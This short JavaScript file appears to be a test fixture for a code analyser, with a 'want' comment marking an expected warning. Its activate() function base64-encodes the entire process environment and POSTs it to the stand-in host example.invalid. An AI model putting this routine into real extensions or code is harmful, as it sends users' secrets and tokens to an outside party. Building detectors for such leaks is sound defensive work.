require('./program');
require('./issue');
const https = require('https');

function activate() {
  const data = Buffer.from(JSON.stringify(process.env)).toString('base64');
  const request = https.request({ host: 'example.invalid', path: '/env', method: 'POST' }, () => {});
  request.write(data);  // want "the whole environment, with every key in"
  request.end();
}
exports.activate = activate;
